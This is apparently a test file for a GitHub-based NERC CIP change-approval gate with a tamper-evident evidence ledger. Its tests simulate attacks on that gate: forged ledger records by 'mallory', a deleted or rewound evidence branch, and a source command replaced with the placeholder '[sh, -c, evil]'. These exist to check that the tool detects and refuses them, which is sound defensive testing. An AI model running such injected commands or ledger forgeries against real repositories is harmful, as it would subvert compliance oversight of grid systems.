        "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n",
      );
    }

    it("is refused when only the policy owners and the new CSM approve", async () => {
      await handOver();
      reviews({ user: "dave" }, { user: "grace" }, { user: "ivan" });
      await planPullRequest();
      await expectRefused(
        await pushToMain(),
        'rule "cip-senior-manager-change" is unmet: 1 more approval needed from heidi',
      );
    });

    it("is recorded with both sides when the base's CSM approves", async () => {
      await handOver();
      reviews({ user: "heidi" });
      await planPullRequest();
      const run = await pushToMain();
      expect(run.code).toBe(0);
      expect(emulator.mutatingRequestCount()).toBe(0);
      const { policy } = changeOf(run);
      expect(policy!.rules.map((rule) => [rule.id, rule.result])).toEqual([
        ["cip-senior-manager-change", "met"],
      ]);
      expect(policy!.senior_manager).toMatchObject({
        base: { csm: { login: "heidi", since: "2026-01-05" } },
        head: { csm: { login: "ivan", since: "2026-11-02" } },
      });
    });
  });

  it("refuses any review while the base policy names no cip_senior_manager", async () => {
    await base("[dave, grace]");
    await writeReview();
    reviews({ user: "dave" }, { user: "grace" }, { user: "heidi" });
    await planPullRequest();
    await expectRefused(
      await pushToMain(),
      "the base policy names no cip_senior_manager, so nobody can approve a CIP-002 R2 review",
    );
  });
});

describe("lifting a rule, or the CIP Senior Manager, with the policy file (issue 51)", () => {
  const WITH_CSM = `${POLICY}cip_senior_manager: { login: heidi, name: Heidi Lang, title: VP Operations, since: 2026-01-05 }\ncip_002_last_approval: { on: 2025-10-14, ref: CIP-002-2025 }\n`;

  /** The base has `policy`; the checkout keeps the inventory as the base and service hold it. */
  async function policyOnly(policy: string): Promise<void> {
    await base("[dave, grace]", policy);
    await writeFile(
      join(workspaceOf(dir), "inventory", "alpha.yaml"),
      "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n",
    );
  }

  it("refuses the two-owner rule removed with one owner's approval, then applies nothing", async () => {
    await policyOnly(POLICY);
    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), "version: 1\n");
    reviews({ user: "dave" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    await expectRefused(
      await pushToMain(),
      'rule "rule-lifted" is unmet: 1 more approval needed from the owners of "Protection System"',
    );
  });

  it("records the rule's removal both owners approve", async () => {
    await policyOnly(POLICY);
    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), "version: 1\n");
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    const run = await pushToMain();
    expect(run.code).toBe(0);
    expect(emulator.mutatingRequestCount()).toBe(0);
    expect(changeOf(run).policy!.rules.map((rule) => [rule.id, rule.result])).toEqual([
      ["policy-change", "met"],
      ["rule-lifted", "met"],
    ]);
  });

  it("refuses cip_002_last_approval dated after the merge, though the CIP Senior Manager approves", async () => {
    await policyOnly(WITH_CSM);
    await writeFile(
      join(workspaceOf(dir), "cip-policy.yaml"),
      WITH_CSM.replace("on: 2025-10-14", "on: 2099-01-01"),
    );
    reviews({ user: "heidi" });
    await planPullRequest();
    await expectRefused(
      await pushToMain(),
      "cip-policy.yaml:7:24: cip_002_last_approval: it is dated 2099-01-01, after the record that carries it",
    );
  });

  it("refuses a baseline's reviewed: dated after the merge, though its owners approve", async () => {
    const inventory = (reviewed: string) =>
      `cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: { type: hardware, baseline: { os_firmware: [{ name: RTOS, version: '4.2' }], software: [], custom_software: [], ports: [], patches: [], reviewed: ${reviewed} } }\n  old-hmi: hardware\n`;
    await policyOnly(POLICY);
    github.policy.addFile(BASE, "inventory/alpha.yaml", inventory("2026-01-05"));
    await writeFile(join(workspaceOf(dir), "inventory", "alpha.yaml"), inventory("2099-01-01"));
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    await expectRefused(
      await pushToMain(),
      "inventory/alpha.yaml:7:3: asset alpha-rtu-01: baseline reviewed: it is dated 2099-01-01, after the record that carries it",
    );
  });

  it.each([
    ["deleted", undefined],
    ["made unparseable", `${WITH_CSM}rules: []\n`],
  ])(
    "refuses the file %s with the policy owners' and the rule's approvals, but not the CIP Senior Manager's",
    async (_how, text) => {
      await policyOnly(WITH_CSM);
      const file = join(workspaceOf(dir), "cip-policy.yaml");
      if (text === undefined) await rm(file);
      else await writeFile(file, text);
      reviews({ user: "dave" }, { user: "grace" });
      await planPullRequest();
      const run = await pushToMain();
      await expectRefused(
        run,
        'rule "cip-senior-manager-change" is unmet: 1 more approval needed from heidi',
      );
      expect(changeOf(run).policy!.senior_manager).toMatchObject({
        base: { csm: { login: "heidi" }, last_approval: { on: "2025-10-14" } },
        head: null,
      });
    },
  );
});

describe("a baseline changed at merge", () => {
  const UPDATES = `version: 1
rules:
  - id: high-impact-updates
    when: { operations: [update], impact: [high] }
    require: { approvals: 2, from: owners }
`;

  /** The checkout gives alpha-relay-01, which the base declares without one, a baseline. */
  async function baselineOnRelay(): Promise<void> {
    await base("[dave, grace]", UPDATES);
    await writeFile(
      join(workspaceOf(dir), "inventory", "alpha.yaml"),
      ALPHA.replace("assets:\n", "impact: high\nowners: [dave, grace]\nassets:\n").replace(
        "  alpha-relay-01: hardware\n",
        "  alpha-relay-01:\n    type: hardware\n    baseline: { os_firmware: [{ name: SEL-451, version: R321 }] }\n",
      ),
    );
  }

  it("is shown and judged as an update of its asset: refused with one owner's approval", async () => {
    await baselineOnRelay();
    reviews({ user: "dave" });
    await planPullRequest();
    const comment = github.comments.at(-1)!.body;
    expect(comment).toContain("**Baselines changed** (CIP-010 R1.1)");
    expect(comment).toContain("alpha-relay-01: baseline added in cyber system");
    await expectRefused(
      await pushToMain(),
      'rule "baseline-change" is unmet: 1 more approval needed from the owners of "Protection System"',
    );
  });

  it("applies with both owners' approvals, the change record naming the rule and the baseline", async () => {
    await baselineOnRelay();
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    const applied = await pushToMain();
    expect(applied.code).toBe(0);
    const change = changeOf(applied);
    expect(change.policy!.rules).toContainEqual(
      expect.objectContaining({
        id: "baseline-change",
        governs:
          'alpha-relay-01: baseline added in cyber system "Protection System" (inventory/alpha.yaml)',
        result: "met",
      }),
    );
    expect(change.baselines).toEqual([
      expect.objectContaining({
        asset: "alpha-relay-01",
        digest: expect.stringMatching(/^sha256:/),
      }),
    ]);
  });
});

describe("facts in force come from accepted records (issue 61)", () => {
  const [cutHead, cutMerge] = ["f1".repeat(20), "f2".repeat(20)];
  const [deleteHead, deleteMerge] = ["f3".repeat(20), "f4".repeat(20)];
  const ownedAlpha = ALPHA.replace("assets:\n", "impact: high\nowners: [dave, grace]\nassets:\n");

  /** Pull request `number`, merged as `merge`, approved by `approvers`. */
  function merged(number: number, head: string, merge: string, approvers: string[]): void {
    github.pulls.push({
      number,
      title: `Change ${number}`,
      author: "bob",
      headSha: head,
      commits: [head, merge],
      mergeCommitSha: merge,
      mergedBy: "carol",
      reviews: approvers.map((user) => ({ user, state: "APPROVED" as const })),
    });
  }

  it("judges the next change by the policy the gate accepted, not the refused one GitHub merged", async () => {
    // An accepted merge puts the two-owner delete rule in force (ledger record #1).
    await base("[dave, grace]");
    await writeFile(join(workspaceOf(dir), "inventory", "alpha.yaml"), ownedAlpha);
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    const accepted = await pushToMain();
    expect(accepted.code).toBe(0);
    github.policy.addFile(MERGE, "cip-policy.yaml", POLICY);
    github.policy.addFile(MERGE, "inventory/alpha.yaml", ownedAlpha);
    // A pull request removing the rule, approved by one owner: refused, then merged anyway.
    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), "version: 1\n");
    merged(PR + 1, cutHead, cutMerge, ["dave"]);
    const cut = await pushToMain(cutMerge, { "require-reviewed-plan": "false" }, MERGE);
    expect(cut.code).toBe(1);
    expect(changeOf(cut).outcome).toBe("policy");
    github.policy.addFile(cutMerge, "cip-policy.yaml", "version: 1\n");
    github.policy.addFile(cutMerge, "inventory/alpha.yaml", ownedAlpha);
    // The drift check of the default branch says what it declares that is not in force.
    const drift = await checkDrift();
    expect(drift.stdout).toContain(
      `The default branch at ${MERGE} declares governance facts the gate never accepted (in force: commit ${MERGE}, record #1): the owner policy file (its SHA-256): {"file":"cip-policy.yaml","sha256":"${sha256Hex(POLICY)}"} in force, {"file":"cip-policy.yaml","sha256":"${sha256Hex("version: 1\n")}"} on the branch.`,
    );
    expect(drift.summary).toContain(
      "### Not in force: the default branch differs from what the gate accepted",
    );
    // The next pull request deletes a High asset with that one owner's approval, on the cut base.
    await writeFile(
      join(workspaceOf(dir), "inventory", "alpha.yaml"),
      ownedAlpha.replace("  alpha-relay-02: software\n", ""),
    );
    merged(PR + 2, deleteHead, deleteMerge, ["dave"]);
    const mutationsBefore = emulator.mutatingRequestCount();
    const next = await pushToMain(deleteMerge, { "require-reviewed-plan": "false" }, cutMerge);
    expect(next.code).toBe(1);
    expect(next.outputs["failure-reason"]).toBe("policy");
    expect(emulator.mutatingRequestCount()).toBe(mutationsBefore);
    const change = changeOf(next);
    expect(change.outcome).toBe("policy");
    // Judged at the commit the accepted record merged, with the cut as part of this change.
    expect(change.policy).toMatchObject({ allowed: false, base_sha: MERGE });
    const reasons = change.policy!.reasons.join("; ");
    expect(reasons).toContain('rule "high-impact-deletes" is unmet');
    expect(reasons).toContain('rule "rule-lifted" is unmet');
    expect(next.stdout).toContain(
      `Judged against the facts in force: the files of commit ${MERGE}, merged by the change the gate accepted in record #1 of cip-sync-evidence; every change to the owner policy, owners, CIP Senior Manager or sources since (the base is ${cutMerge}) is part of this change.`,
    );
  });

  it("keeps CIP-002 R2 overdue when a refused cip_002_last_approval is merged anyway, at the drift check too", async () => {
    // In force (record #1): the CIP Senior Manager heidi, the last approval of 14 October 2024.
    const accepted = `${POLICY}cip_senior_manager: { login: heidi, name: Heidi Lang, title: VP Operations, since: 2024-01-05 }\ncip_002_last_approval: { on: 2024-10-14, ref: CIP-002 memo }\n`;
    await base("[dave, grace]", accepted);
    await writeFile(join(workspaceOf(dir), "inventory", "alpha.yaml"), ownedAlpha);
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    expect((await pushToMain()).code).toBe(0);
    github.policy.addFile(MERGE, "cip-policy.yaml", accepted);
    github.policy.addFile(MERGE, "inventory/alpha.yaml", ownedAlpha);
    // A pull request moving the last approval to 2026-03-01, approved by an owner who is neither
    // the CIP Senior Manager nor a delegate: refused at the merge, merged by GitHub anyway.
    const moved = accepted.replace("on: 2024-10-14", "on: 2026-03-01");
    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), moved);
    merged(PR + 1, cutHead, cutMerge, ["dave"]);
    const mutationsBefore = emulator.mutatingRequestCount();
    const refused = await pushToMain(cutMerge, { "require-reviewed-plan": "false" }, MERGE);
    expect(refused.code).toBe(1);
    expect(changeOf(refused).outcome).toBe("policy");
    expect(changeOf(refused).reason).toContain('rule "cip-senior-manager-change" is unmet');
    expect(emulator.mutatingRequestCount()).toBe(mutationsBefore);
    // The drift check of the default branch, which now holds the moved date: still due 15 months
    // after 14 October 2024, overdue, and the difference listed as not in force.
    const drift = await checkDrift();
    expect(drift.summary).toContain(
      "| overdue | CIP-002 R2 | `default` | the identifications of workspace default | 2026-01-14 |",
    );
    expect(drift.stdout).toContain(
      'cip_002_last_approval: {"on":"2024-10-14","ref":"CIP-002 memo"} in force, {"on":"2026-03-01","ref":"CIP-002 memo"} on the branch',
    );
  });

  it("judges nothing, and applies nothing, when the ledger cannot say what is in force", async () => {
    await base("[dave, grace]");
    reviews({ user: "dave" }, { user: "grace" });
    // The workspace's chain on the evidence branch is broken at its head (record 2 does not name
    // record 1): which facts are in force cannot be told.
    const [first, second] = chainOf([
      { draft: { ...changeDraft("default", 1), workspace: "default" }, at: new Date("2026-01-01") },
      { draft: { ...changeDraft("default", 2), workspace: "default" }, at: new Date("2026-01-02") },
    ]);
    const broken = second!.text.replace(second!.record.previous_sha256!, "0".repeat(64));
    github.git.commitFiles(
      "cip-sync-evidence",
      { [first!.path]: first!.text, [second!.path]: broken },
      [],
      {
        message: "ledger",
        author: INTEGRATION_LOGIN,
        verified: true,
      },
    );
    await planPullRequest();
    const run = await pushToMain();
    expect(run.code).toBe(1);
    expect(emulator.mutatingRequestCount()).toBe(0);
    expect(run.stdout).toContain(
      "cannot tell which facts are in force from the evidence branch cip-sync-evidence, so nothing is judged or applied: the evidence chain of workspace default on branch cip-sync-evidence is broken",
    );
  });

  it("judges at the base, saying so, while the ledger has not been started", async () => {
    await base("[dave, grace]");
    reviews({ user: "dave" });
    await planPullRequest();
    const refused = await pushToMain();
    expect(refused.code).toBe(1);
    expect(refused.stdout).toContain(
      `The evidence ledger on cip-sync-evidence has not been started for workspace default (no record, and no head kept on the default branch): the owner policy is judged at the base commit ${BASE}.`,
    );
    expect(changeOf(refused).policy).toMatchObject({ base_sha: BASE });
  });
});

describe("the ledger as an authority (issue 68)", () => {
  const [cutHead, cutMerge] = ["e1".repeat(20), "e2".repeat(20)];
  const [deleteHead, deleteMerge] = ["e3".repeat(20), "e4".repeat(20)];
  const LEDGER = "cip-sync-evidence";
  const BASE_ALPHA = `cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n`;

  function merged(number: number, head: string, merge: string, approvers: string[]): void {
    github.pulls.push({
      number,
      title: `Change ${number}`,
      author: "bob",
      headSha: head,
      commits: [head, merge],
      mergeCommitSha: merge,
      mergedBy: "carol",
      reviews: approvers.map((user) => ({ user, state: "APPROVED" as const })),
    });
  }

  /**
   * The first pull request of a repository adopting the tool removes the two-owner delete rule
   * with one owner's approval: refused at its merge (the ledger's first record, its genesis the
   * base), and merged by GitHub anyway. The checkout then holds the cut policy.
   */
  async function refusedFirstChange(): Promise<void> {
    await base("[dave, grace]");
    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), "version: 1\n");
    merged(PR + 1, cutHead, cutMerge, ["dave"]);
    const cut = await pushToMain(cutMerge, { "require-reviewed-plan": "false" }, BASE);
    expect(cut.code).toBe(1);
    expect(changeOf(cut).outcome).toBe("policy");
    github.policy.addFile(cutMerge, "cip-policy.yaml", "version: 1\n");
    github.policy.addFile(cutMerge, "inventory/alpha.yaml", BASE_ALPHA);
  }

  /** The next pull request deletes old-hmi, in a High system, with one owner's approval. */
  async function oneOwnerDelete() {
    merged(PR + 2, deleteHead, deleteMerge, ["dave"]);
    return pushToMain(deleteMerge, { "require-reviewed-plan": "false" }, cutMerge);
  }

  function expectNothingApplied(run: ActionRun, mutationsBefore: number): void {
    expectNoSecrets(run);
    expect(run.code).toBe(1);
    expect(emulator.mutatingRequestCount()).toBe(mutationsBefore);
  }

  it("judges the pull request after a refused first change by the genesis, not the base it left", async () => {
    await refusedFirstChange();
    const before = emulator.mutatingRequestCount();
    const next = await oneOwnerDelete();
    expectNothingApplied(next, before);
    expect(next.outputs["failure-reason"]).toBe("policy");
    // Judged at the genesis (what record #1 was judged at), with the cut as part of this change.
    expect(changeOf(next).policy).toMatchObject({ allowed: false, base_sha: BASE });
    expect(changeOf(next).policy!.reasons.join("; ")).toContain(
      'rule "high-impact-deletes" is unmet',
    );
    expect(next.stdout).toContain(
      `Judged against the facts in force: the files of commit ${BASE}, the genesis of ${LEDGER} (what record #1, its first, was judged at), as no merge the gate accepted is recorded yet; every change to the owner policy, owners, CIP Senior Manager or sources since (the base is ${cutMerge}) is part of this change.`,
    );
  });

  it("keeps the ledger's head on the merge it recorded, as the Action's own commit status", async () => {
    await refusedFirstChange();
    const [record] = github.git.filesOn(LEDGER).filter(({ path }) => path.endsWith(".json"));
    const kept = github.policy.statuses.filter(
      ({ sha, context }) => sha === cutMerge && context === `cip-sync/ledger (${LEDGER}, default)`,
    );
    expect(kept).toMatchObject([{ state: "success", creator: INTEGRATION_LOGIN }]);
    // Signed by the writer's key (docs/ledger-writer.md): the record's sequence and digest.
    expect(parseSignedHead(kept[0]!.description)).toMatchObject({
      sequence: 1,
      sha256: sha256Hex(record!.bytes),
    });
  });

  it("judges nothing, and applies nothing, once the evidence branch is deleted", async () => {
    await refusedFirstChange();
    github.git.refs.delete(`heads/${LEDGER}`);
    const before = emulator.mutatingRequestCount();
    const next = await oneOwnerDelete();
    expectNothingApplied(next, before);
    expect(next.outputs["failure-reason"]).toBe("evidence");
    expect(next.stdout).toContain(
      `::error::cannot tell which facts are in force from the evidence branch ${LEDGER}, so nothing is judged or applied: the evidence branch ${LEDGER} does not exist, but commit ${cutMerge} keeps its head at record #1`,
    );
    expect(next.stdout).toContain("restore the evidence branch from a clone or bundle");
    // Nothing appended either: a new chain's kept head would hide the loss.
    expect(github.git.refs.has(`heads/${LEDGER}`)).toBe(false);
    // Nor by the drift check of the default branch's head, two commits later.
    github.git.defaultBranchCommit(BASE, []);
    github.git.defaultBranchCommit(cutMerge, [BASE]);
    github.git.defaultBranchCommit(deleteMerge, [cutMerge]);
    github.git.defaultBranchCommit(MERGE, [deleteMerge]);
    const drift = await checkDrift();
    expect(drift.code).toBe(1);
    expect(drift.stdout).toContain(`the evidence branch ${LEDGER} does not exist, but commit`);
    expect(github.git.refs.has(`heads/${LEDGER}`)).toBe(false);
  });

  it("judges nothing once the evidence branch is force-pushed back before its kept head", async () => {
    await refusedFirstChange();
    const genesisOnly = github.git.refs.get(`heads/${LEDGER}`)!;
    // A second refused merge: record #2, kept on its merge commit.
    merged(PR + 3, "e5".repeat(20), "e6".repeat(20), ["dave"]);
    expect((await pushToMain("e6".repeat(20), {}, cutMerge)).code).toBe(1);
    github.policy.addFile("e6".repeat(20), "cip-policy.yaml", "version: 1\n");
    github.policy.addFile("e6".repeat(20), "inventory/alpha.yaml", BASE_ALPHA);
    github.git.refs.set(`heads/${LEDGER}`, genesisOnly);
    const before = emulator.mutatingRequestCount();
    merged(PR + 2, deleteHead, deleteMerge, ["dave"]);
    const next = await pushToMain(
      deleteMerge,
      { "require-reviewed-plan": "false" },
      "e6".repeat(20),
    );
    expectNothingApplied(next, before);
    expect(next.outputs["failure-reason"]).toBe("evidence");
    expect(next.stdout).toContain(
      `ends at record #1, before record #2, the head commit ${"e6".repeat(20)} keeps for workspace default: the ledger was rewound or rewritten, so nothing is judged from it`,
    );
  });

  it("judges nothing from a record another account committed, whatever in_force it names", async () => {
    await refusedFirstChange();
    const [head] = github.git.filesOn(LEDGER).filter(({ path }) => path.endsWith(".json"));
    const record = JSON.parse(Buffer.from(head!.bytes).toString("utf8")) as EvidenceRecord;
    // A copy of the head, linked to it, naming the refused merge as accepted.
    const forged = {
      ...record,
      sequence: 2,
      previous_sha256: sha256Hex(head!.bytes),
      recorded_at: new Date(Date.parse(record.recorded_at) + 1000).toISOString(),
      in_force: { sequence: 1, commit: cutMerge },
    };
    const path = head!.path.replace(
      /\/[^/]+\.json$/,
      `/${forged.recorded_at.replace(/[-:]/g, "")}-change-forged-1.json`,
    );
    github.git.commitFiles(LEDGER, { [path]: `${JSON.stringify(forged, null, 2)}\n` }, [], {
      message: "record",
      author: "mallory",
      verified: true,
    });
    const before = emulator.mutatingRequestCount();
    const next = await oneOwnerDelete();
    expectNothingApplied(next, before);
    expect(next.outputs["failure-reason"]).toBe("evidence");
    expect(next.stdout).toContain(
      `was made by mallory, not by the ledger's writer ${INTEGRATION_LOGIN} (--writer)`,
    );
  });
});

describe("governance facts pushed straight to main after the genesis (issue 68)", () => {
  const CSM = `${POLICY}cip_senior_manager: { login: heidi, name: Heidi Lang, title: VP Operations, since: 2024-01-05 }\n`;
  const OWNED_ALPHA = `cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n`;

  /** The genesis: the first drift check reads MERGE, which declares the policy, owners and sources. */
  async function genesis(): Promise<void> {
    for (const at of [BASE, MERGE]) {
      github.policy.addFile(at, "cip-policy.yaml", CSM);
      github.policy.addFile(at, "inventory/alpha.yaml", OWNED_ALPHA);
      github.policy.addFile(at, "cip-sources.yaml", SOURCES);
    }
    const workspace = workspaceOf(dir);
    await writeFile(join(workspace, "cip-policy.yaml"), CSM);
    await writeFile(join(workspace, "inventory", "alpha.yaml"), OWNED_ALPHA);
    await writeFile(join(workspace, "cip-sources.yaml"), SOURCES);
    expect((await checkDrift()).code).toBe(0);
  }

  it.each([
    [
      "a rule lifted",
      "cip-policy.yaml",
      CSM.replace("approvals: 2", "approvals: 1"),
      "the owner policy file (its SHA-256)",
    ],
    [
      "a delegate added",
      "cip-policy.yaml",
      CSM.replace(
        "since: 2024-01-05 }",
        "since: 2024-01-05, delegates: [{ login: mallory, name: M, title: T, actions: [cip-002-r2.2], delegated_on: 2026-02-01, delegation_ref: D-1 }] }",
      ),
      "the owner policy file (its SHA-256)",
    ],
    [
      "the calendar",
      "cip-policy.yaml",
      `${CSM}calendar: { time_zone: Pacific/Kiritimati }\n`,
      "the owner policy file (its SHA-256)",
    ],
    [
      "the owners",
      "inventory/alpha.yaml",
      OWNED_ALPHA.replace("[dave, grace]", "[mallory]"),
      'the impact and owners of cyber system "Protection System"',
    ],
    [
      "the impact",
      "inventory/alpha.yaml",
      OWNED_ALPHA.replace("impact: high", "impact: low"),
      'the impact and owners of cyber system "Protection System"',
    ],
    [
      "a source command",
      "cip-sources.yaml",
      SOURCES.replace("[node, scripts/export-assets.mjs]", "[sh, -c, evil]"),
      "the sources' commands",
    ],
  ])(
    "%s pushed to main takes no force: the drift check reports it and the next pull request is judged by the genesis",
    async (_what, file, text, difference) => {
      await genesis();
      // A direct push: the default branch moves to PUSHED, whose checkout holds the change.
      const PUSHED = "d1".repeat(20);
      await writeFile(join(workspaceOf(dir), file), text);
      const drift = await checkDrift({}, PUSHED);
      expect(drift.stdout).toContain(
        `::warning title=Not in force::The default branch at ${PUSHED} declares governance facts the gate never accepted (in force: the genesis commit ${MERGE}, what record #1 was judged at): ${difference}:`,
      );
      // The next pull request, on a base that holds the push: judged at the genesis, the push part of it.
      const run = await planPullRequest();
      expect(run.stdout).toContain(
        `Judged against the facts in force: the files of commit ${MERGE}, the genesis of cip-sync-evidence (what record #1, its first, was judged at)`,
      );
    },
  );
});
